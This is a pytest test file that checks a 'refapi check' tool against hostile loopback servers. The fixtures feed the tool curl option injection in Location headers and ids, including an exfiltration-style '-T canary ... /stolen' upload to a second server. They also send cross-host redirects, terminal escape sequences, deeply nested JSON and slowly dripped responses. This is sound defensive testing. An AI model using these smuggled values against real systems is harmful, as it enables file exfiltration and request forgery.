"""``refapi check URL`` pointed at a hostile server: what the server sends (a
``Location``, an id, a redirect) never becomes a curl option, a second URL or a
request elsewhere (docs/operating.md, "Checking a deployment").

Two servers of the test's own on loopback: the one checked, whose answers carry
curl options and a second server's URL, and the second, which must hear nothing.
And one whose "auth" bucket is empty for a second when the check cleans up.
"""

from __future__ import annotations

import gzip
import json
import os
import secrets
import socket
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from refapi import check
from tests.e2e.test_check import refapi_check

pytestmark = pytest.mark.e2e


class Recorder(ThreadingHTTPServer):
    """A server that keeps every request it reads: method, path, headers, body."""

    daemon_threads = True

    def __init__(self, answer: type[BaseHTTPRequestHandler]) -> None:
        super().__init__(("127.0.0.1", 0), answer)
        self.heard: list[tuple[str, str, str, bytes]] = []
        self.hostile: dict[str, str] = {}
        self.sent_headers: dict[str, str] = {}

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class Answer(BaseHTTPRequestHandler):
    """Records the request, then answers as ``answer`` says."""

    server: Recorder

    def handle_one(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        heard = (self.command, self.path, str(self.headers), body)
        self.server.heard.append(heard)
        status, headers, sent = self.answer()
        self.send_response(status)
        for name, value in {"Content-Length": str(len(sent)), **headers}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(sent)

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_HEAD = handle_one

    def answer(self) -> tuple[int, dict[str, str], bytes]:
        return 200, {}, b"{}"

    def log_message(self, format: str, *args: object) -> None:
        pass


class Hostile(Answer):
    """Answers the check's examples with curl options, a second server's URL and
    redirects to it, wherever the examples read what the server said."""

    def answer(self) -> tuple[int, dict[str, str], bytes]:
        hostile, path = self.server.hostile, self.path
        if (self.command, path) == ("POST", "/v1/articles"):
            return 201, {"Location": hostile["location"]}, b"{}"
        if (self.command, path) == ("POST", "/api/oauth-clients"):
            client = {"id": hostile["id"], "clientId": "c", "clientSecret": "s"}
            return 201, {}, json.dumps(client).encode()
        if (self.command, path) == ("POST", "/api/login"):
            login = {"token": "a-token", "user": {"id": hostile["id"]}}
            return 200, {}, json.dumps(login).encode()
        if self.command == "GET":
            return 302, {"Location": hostile["elsewhere"] + path}, b""
        return 307, {"Location": hostile["elsewhere"] + path}, b"{}"


def serve(answer: type[BaseHTTPRequestHandler]) -> Iterator[Recorder]:
    server = Recorder(answer)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def elsewhere() -> Iterator[Recorder]:
    yield from serve(Answer)


@pytest.fixture
def hostile() -> Iterator[Recorder]:
    yield from serve(Hostile)


def files_under(folder: Path) -> list[Path]:
    return sorted(folder.rglob("*"))


@pytest.mark.parametrize(
    "location",
    ["/v1/articles/1 -T {canary} -o {written}", "@127.0.0.1:{port}/v1/articles/1"],
    ids=["curl-options", "another-host"],
)
def test_what_a_hostile_server_sends_stays_one_word_aimed_at_it(
    hostile, elsewhere, tmp_path, location
):
    canary = tmp_path / "canary.txt"
    canary.write_text(f"canary {secrets.token_hex(8)}\n")
    written = tmp_path / "written-by-curl"
    # A Location with curl options in it, or naming another host (as the URL's
    # user part after $BASE); an id holding options and a second URL; every other
    # GET redirected to the second server.
    port = elsewhere.server_address[1]
    hostile.hostile = {
        "location": location.format(canary=canary, written=written, port=port),
        "id": f"1 -T {canary} -o {written} {elsewhere.base}/stolen",
        "elsewhere": elsewhere.base,
    }
    token = f"admin-{secrets.token_hex(8)}"
    ci = tmp_path / "ci"
    ci.mkdir()
    before = files_under(tmp_path)
    done = refapi_check(hostile.base, "--writes", token=token, cwd=ci)
    assert done.returncode == 1, done.stdout  # it differs, and says so
    assert elsewhere.heard == []  # no request, so neither the token nor the canary
    bodies = [body for _, _, _, body in hostile.heard]
    assert not any(canary.read_bytes() in body for body in bodies)
    assert files_under(tmp_path) == before  # nothing written, here or in ci/
    headers = [head for _, _, head, _ in hostile.heard]
    assert any(f"Bearer {token}" in head for head in headers)  # the admin examples ran


SHELL = """\
```sh portable
echo /*; ls -A
env | cut -d= -f1 | sort | tr '\\n' ' '; echo
curl -s -o /dev/null -w '%{http_code}\\n' "http://elsewhere.example/x"
curl -s -o /dev/null -w '%{http_code}\\n' "$ELSEWHERE/y"
curl -s -o /dev/null -w '%{http_code}\\n' "file:///etc/hostname" || echo refused
```

```output
/*
ADMIN BASE CURL_HOME HOME PATH PWD SHLVL _ \n\
302
302
000
refused
```
"""


def test_the_examples_shell_globs_nothing_and_its_curls_reach_one_origin(
    hostile, elsewhere, capsys
):
    # The checked server redirects each GET to the second: curl follows none.
    hostile.hostile["elsewhere"] = elsewhere.base
    text = SHELL.replace("$ELSEWHERE", elsewhere.base)
    assert check.check(hostile.base, texts={"shell.md": text}) == 0, capsys.readouterr()
    assert elsewhere.heard == []
    hosts = [head.splitlines()[0] for _, _, head, _ in hostile.heard]
    assert hosts[-2:] == ["Host: elsewhere.example", f"Host: {elsewhere.base[7:]}"]


class Busy(Answer):
    """Refuses the first login with a 429 for a second, as an empty "auth" bucket."""

    def answer(self) -> tuple[int, dict[str, str], bytes]:
        logins = [heard for heard in self.server.heard if heard[1] == "/api/login"]
        if len(logins) == 1:
            return 429, {"Retry-After": "1"}, b"{}"
        if self.path == "/api/login":
            return 200, {}, b'{"token": "t", "user": {"id": 7}}'
        return 204, {}, b""


def test_the_clean_up_waits_out_a_login_refused_for_a_moment():
    for busy in serve(Busy):
        names = check.Names()
        names.email(check.EMAIL.match("ada@example.com"))  # as if she registered
        assert check.delete_users(busy.base, names) == []
        assert [(method, path) for method, path, _, _ in busy.heard] == [
            ("POST", "/api/login"), ("POST", "/api/login"), ("DELETE", "/api/users/7"),
        ]  # fmt: skip


def test_a_server_that_does_not_answer_http_is_one_line_and_exit_2(capsys):
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def garble() -> None:  # the check's first request: its probe
            connection, _ = listener.accept()
            with connection:
                connection.recv(65536)
                connection.sendall(b"SSH-2.0-OpenSSH_9.2\r\n")

        threading.Thread(target=garble, daemon=True).start()
        base = f"http://127.0.0.1:{listener.getsockname()[1]}"
        assert check.check(base, texts={}) == 2
    assert capsys.readouterr().out == (
        f"refapi check: cannot reach {base}: not HTTP"
        " (BadStatusLine: 'SSH-2.0-OpenSSH_9.2\\r\\n')\n"
    )


ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x1b[31mRED\x1b[0m"  # a title, a clear, red
WRITES = """\
```sh writes
curl -si "$BASE/v1/todos/1" -H "From: ada@example.com"
```

```output
HTTP/1.1 200 OK
```
"""


class Escapes(Answer):
    """Answers with terminal control sequences in a header and the body (or the
    server's ``body``, with its ``sent_headers``), and the clean-up's login with
    a status line of them (a BadStatusLine holding them)."""

    def do_POST(self) -> None:
        if self.path != "/api/login":
            return self.handle_one()
        self.wfile.write(ESCAPES.encode() + b"\r\n\r\n")

    def answer(self) -> tuple[int, dict[str, str], bytes]:
        body = self.server.hostile.get("body", f'{{"title": "{ESCAPES}"}}')
        headers = {"X-Request-Id": ESCAPES, **self.server.sent_headers}
        return 200, headers, body.encode("latin-1")


def unprintable(said: str) -> list[str]:
    return [char for char in said if not char.isprintable() and char not in "\n\t"]


@pytest.mark.parametrize("coded", [False, True], ids=["json", "gzip"])
def test_what_a_server_says_is_printed_escaped_and_bounded(capsys, coded):
    for escapes in serve(Escapes):
        if coded:  # a megabyte in a content coding, which curl prints as it came
            body = gzip.compress(os.urandom(1_000_000))
            escapes.hostile["body"] = body.decode("latin-1")
            escapes.sent_headers = {"Content-Encoding": "gzip"}
        assert check.check(escapes.base, writes=True, texts={"e.md": WRITES}) == 1
    said = capsys.readouterr().out
    assert unprintable(said) == []
    assert len(said) < 100_000  # of a megabyte
    if not coded:
        assert "X-Request-Id: \\x1b]0;PWNED\\x07\\x1b[2J\\x1b[31mRED\\x1b[0m" in said
        assert '"title": "\\x1b]0;PWNED' in said
    clean_up = said.splitlines()[-1]  # the login's status line, in its error
    assert clean_up.startswith("deleting a user the check made: ada-"), said
    assert clean_up.endswith("\\x1b]0;PWNED\\x07\\x1b[2J\\x1b[31mRED\\x1b[0m\\r\\n")


NESTED = b"[" * 100_000 + b"]" * 100_000  # deeper than Python's recursion limit


class Nested(Answer):
    """Answers every request with JSON nested a hundred thousand deep."""

    def answer(self) -> tuple[int, dict[str, str], bytes]:
        return 200, {}, NESTED


def test_json_nested_too_deep_is_a_body_that_is_not_json():
    for nested in serve(Nested):
        assert check.call("GET", nested.base) == (200, None)


def test_the_clean_up_loses_none_of_the_differences(capsys):
    for nested in serve(Nested):  # the login too: no user, no token in it
        assert check.check(nested.base, writes=True, texts={"e.md": WRITES}) == 1
    said = capsys.readouterr().out.splitlines()
    assert said[:3] == ["differs e.md:1", "", "e.md:1:"]
    assert said[-1].startswith("deleting a user the check made: ada-")
    assert said[-1].endswith("@example.com: the login answered 200")


TWO_WRITES = WRITES + "\n" + WRITES.replace("todos/1", "todos/2")


def test_a_ctrl_c_during_the_examples_loses_none_found(monkeypatch, capsys):
    """Interrupted after the first example differed: the users are deleted, the
    difference is said, and the interruption goes on (exit 130 from the shell)."""
    ran = check.doc_examples.run

    def interrupted(*args, **kwargs):
        yield next(iter(ran(*args, **kwargs)))
        raise KeyboardInterrupt

    monkeypatch.setattr(check.doc_examples, "run", interrupted)
    for nested in serve(Nested):
        with pytest.raises(KeyboardInterrupt):
            check.check(nested.base, writes=True, texts={"e.md": TWO_WRITES})
    said = capsys.readouterr().out.splitlines()
    assert said[:3] == ["differs e.md:1", "", "e.md:1:"]
    assert said[-1].startswith("deleting a user the check made: ada-")


def test_a_ctrl_c_during_the_clean_up_loses_none_found(monkeypatch, capsys):
    def interrupted(base, names):
        raise KeyboardInterrupt

    monkeypatch.setattr(check, "delete_users", interrupted)
    for nested in serve(Nested):
        with pytest.raises(KeyboardInterrupt):
            check.check(nested.base, writes=True, texts={"e.md": WRITES})
    said = capsys.readouterr().out.splitlines()
    assert said[:3] == ["differs e.md:1", "", "e.md:1:"]


class Refusing(Answer):
    """Answers every request 429 with the server's Retry-After."""

    def answer(self) -> tuple[int, dict[str, str], bytes]:
        return 429, {"Retry-After": self.server.hostile["wait"]}, b"{}"


@pytest.mark.parametrize(
    ("wait", "asked"),
    # "0" costs a second of the patience each time, and is asked again at 0 left.
    [("\u00b2", 1), ("9" * 5000, 1), ("0", int(check.PATIENCE) + 2)],
    ids=["superscript", "digits-past-int", "zero"],
)
def test_a_retry_after_the_clean_up_cannot_wait_out_is_a_refusal(wait, asked):
    for refusing in serve(Refusing):
        refusing.hostile["wait"] = wait
        url = f"{refusing.base}/api/login"
        assert check.call("POST", url, {}, patience=check.PATIENCE) == (429, {})
        assert len(refusing.heard) == asked


class Dripping(Answer):
    """Answers a GET of the server's ``path``, and any POST, as the review's server
    did: its first line at once, then a byte each 20 ms, of a header of 60 x's
    (``where``: "head") or of a body of 60 bytes ("body"). Each read is quick; the
    answer takes over a second."""

    def do_GET(self) -> None:
        if self.path != self.server.hostile.get("path"):
            return self.handle_one()
        self.drip()

    def do_POST(self) -> None:
        self.drip()

    def drip(self) -> None:
        head, body = b"HTTP/1.1 200 OK\r\nContent-Length: 60\r\n", b"x" * 60
        if self.server.hostile["where"] == "head":
            fast, slow = head + b"X-Slow: ", body + b"\r\n\r\n" + body
        else:
            fast, slow = head + b"\r\n", body
        try:
            self.wfile.write(fast)
            for byte in slow:
                self.wfile.write(bytes([byte]))
                time.sleep(0.02)
        except OSError:  # the check stopped reading, as it should
            pass


@pytest.mark.parametrize("where", ["head", "body"])
def test_a_first_answer_dripped_is_one_line_timed_out_and_exit_2(
    monkeypatch, capsys, where
):
    monkeypatch.setattr(check, "DEADLINE", 0.5)
    for dripping in serve(Dripping):
        dripping.hostile.update(path="/", where=where)
        started = time.monotonic()
        assert check.check(dripping.base, texts={}) == 2
        assert time.monotonic() - started < 1.5
    assert capsys.readouterr().out == (
        f"refapi check: cannot reach {dripping.base}: timed out\n"
    )


@pytest.mark.parametrize("where", ["head", "body"])
def test_a_clean_up_dripped_is_a_line_timed_out(monkeypatch, capsys, where):
    monkeypatch.setattr(check, "DEADLINE", 0.5)
    for dripping in serve(Dripping):
        dripping.hostile["where"] = where  # the login's answer
        started = time.monotonic()
        assert check.check(dripping.base, writes=True, texts={"e.md": WRITES}) == 1
        assert time.monotonic() - started < 3  # the example's curl, and 0.5 s
    said = capsys.readouterr().out.splitlines()
    assert said[-1].startswith("deleting a user the check made: ada-")
    assert said[-1].endswith("@example.com: timed out")
